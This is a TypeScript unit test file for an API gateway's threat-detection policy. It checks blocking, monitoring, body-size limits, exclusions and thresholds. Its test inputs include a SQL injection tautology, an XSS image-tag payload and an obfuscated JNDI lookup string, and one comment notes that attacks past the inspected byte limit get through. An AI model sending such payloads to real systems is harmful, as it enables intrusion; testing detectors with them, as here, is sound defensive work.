import { describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { instantiate, makeCtx, runPhase } from '../../../test/unit-helpers.js';
import { GatewayError, problemOf } from '../../core/errors.js';
import def from './policy.js';
import { schema } from './schema.js';

const SQLI = encodeURIComponent("1' or '1'='1");

async function run(cfg: z.input<typeof schema>, req: Parameters<typeof makeCtx>[0], body?: string, route?: string) {
  const ctx = makeCtx(req);
  if (route) ctx.route = { name: route, upstream: null, public: true };
  if (body !== undefined) ctx.requestBody = Buffer.from(body);
  const err = (await runPhase(instantiate(def, cfg), 'request', ctx)) as GatewayError | undefined;
  return { ctx, err };
}

describe('threat-detection schema', () => {
  it('has defaults', () => {
    const c = schema.parse({});
    expect(c).toMatchObject({
      mode: 'block',
      threshold: 5,
      exclusions: [],
      max_inspect_bytes: 65536,
      oversize: 'block',
    });
    expect(c.classes).toHaveLength(11);
    expect(c.locations.headers).toContain('user-agent');
  });
  it('refuses unknown classes, bad rule ids, empty exclusions and unknown keys, naming the field', () => {
    const bad = [
      { classes: ['sql'] },
      { exclusions: [{ rule: 'Not A Rule' }] },
      { exclusions: [{}] },
      { mode: 'log' },
      { threshold: 0 },
      { extra: 1 },
    ];
    for (const b of bad) expect(schema.safeParse(b).success, JSON.stringify(b)).toBe(false);
    const r = schema.safeParse({ exclusions: [{ rule: 'Not A Rule' }] });
    expect(r.success ? [] : r.error.issues[0]?.path).toEqual(['exclusions', 0, 'rule']);
    expect(
      schema.safeParse({ exclusions: [{ rule: 'sqli.tautology', location: 'query.q', routes: ['search'] }] }).success,
    ).toBe(true);
  });
});

describe('threat-detection behaviour', () => {
  it('blocks an attack with 403 ATTACK_DETECTED, records the findings, and does not echo the payload', async () => {
    const { ctx, err } = await run({}, { url: `/search?q=${SQLI}` });
    expect(err).toBeInstanceOf(GatewayError);
    expect(err?.code).toBe('ATTACK_DETECTED');
    expect(err?.status).toBe(403);
    const problem = JSON.stringify(problemOf(err as GatewayError));
    expect(problem).not.toContain("'1'='1");
    expect(ctx.securityEvents).toEqual([
      expect.objectContaining({
        type: 'detection.sqli',
        policy: 'threat-detection',
        rule: 'sqli.tautology',
        location: 'query.q',
        action: 'block',
        detail: expect.objectContaining({ score: 5, total: 5 }),
      }),
    ]);
  });
  it('monitor mode lets the request through and records the findings as monitor', async () => {
    const { ctx, err } = await run({ mode: 'monitor' }, { url: `/search?q=${SQLI}` });
    expect(err).toBeUndefined();
    expect(ctx.securityEvents?.[0]).toMatchObject({ type: 'detection.sqli', action: 'monitor' });
  });
  it('off inspects nothing; a clean request records nothing', async () => {
    expect((await run({ mode: 'off' }, { url: `/search?q=${SQLI}` })).err).toBeUndefined();
    const clean = await run({}, { url: '/search?q=winter+boots&page=2' });
    expect(clean.err).toBeUndefined();
    expect(clean.ctx.securityEvents).toBeNull();
  });
  it('refuses a body longer than it reads (413 BODY_NOT_INSPECTED) unless oversize: pass; monitor only records it', async () => {
    const padded = JSON.stringify({ pad: 'x'.repeat(2000), late: "1' or '1'='1" });
    const req = {
      method: 'POST',
      url: '/notes',
      headers: { 'content-type': 'application/json', 'content-length': String(padded.length) },
    };
    const refused = await run({ max_inspect_bytes: 1024 }, req, padded);
    expect(refused.err?.code).toBe('BODY_NOT_INSPECTED');
    expect(refused.err?.status).toBe(413);
    expect(refused.ctx.securityEvents?.[0]).toMatchObject({ type: 'detection.oversize', action: 'block' });
    // pass: the first 1,024 bytes are inspected (the tail is not: the attack goes through, as documented).
    expect((await run({ max_inspect_bytes: 1024, oversize: 'pass' }, req, padded)).err).toBeUndefined();
    const monitored = await run({ max_inspect_bytes: 1024, mode: 'monitor' }, req, padded);
    expect(monitored.err).toBeUndefined();
    expect(monitored.ctx.securityEvents?.[0]).toMatchObject({ type: 'detection.oversize', action: 'monitor' });
    // Within the limit, the default reads it all and finds the attack.
    expect((await run({}, req, padded)).err?.code).toBe('ATTACK_DETECTED');
  });
  it('inspects a JSON body read through ctx.readBody', async () => {
    const { err, ctx } = await run(
      {},
      { method: 'POST', url: '/users', headers: { 'content-type': 'application/json', 'content-length': '40' } },
      JSON.stringify({ name: '<img src=x onerror=alert(1)>' }),
    );
    expect(err?.code).toBe('ATTACK_DETECTED');
    expect(ctx.securityEvents?.[0]).toMatchObject({ type: 'detection.xss', location: 'body./name' });
  });
  it('skips bodies it cannot read (binary content types) and respects locations.body', async () => {
    const bin = await run(
      {},
      {
        method: 'POST',
        url: '/upload',
        headers: { 'content-type': 'application/octet-stream', 'content-length': '12' },
      },
      "1' or '1'='1",
    );
    expect(bin.err).toBeUndefined();
    const off = await run(
      { locations: { body: false } },
      { method: 'POST', url: '/x', headers: { 'content-type': 'text/plain', 'content-length': '12' } },
      "1' or '1'='1",
    );
    expect(off.err).toBeUndefined();
  });
  it('exclusions by rule and location, and by route', async () => {
    expect(
      (await run({ exclusions: [{ rule: 'sqli', location: 'query.q' }] }, { url: `/search?q=${SQLI}` })).err,
    ).toBeUndefined();
    expect(
      (await run({ exclusions: [{ rule: 'sqli', location: 'query.other' }] }, { url: `/search?q=${SQLI}` })).err?.code,
    ).toBe('ATTACK_DETECTED');
    const routed = { exclusions: [{ rule: 'sqli.tautology', routes: ['search'] }] };
    expect((await run(routed, { url: `/search?q=${SQLI}` }, undefined, 'search')).err).toBeUndefined();
    expect((await run(routed, { url: `/search?q=${SQLI}` }, undefined, 'other')).err?.code).toBe('ATTACK_DETECTED');
  });
  it('a higher threshold lets a single finding through (recorded as monitor)', async () => {
    const { ctx, err } = await run({ threshold: 10 }, { url: `/search?q=${SQLI}` });
    expect(err).toBeUndefined();
    expect(ctx.securityEvents?.[0]).toMatchObject({ action: 'monitor' });
  });
  it('checks every header for JNDI lookups', async () => {
    const { err, ctx } = await run({}, { url: '/', headers: { 'x-anything': '${${lower:j}ndi:ldap://x/a}' } });
    expect(err?.code).toBe('ATTACK_DETECTED');
    expect(ctx.securityEvents?.[0]).toMatchObject({ type: 'detection.jndi', location: 'header.x-anything' });
  });
});
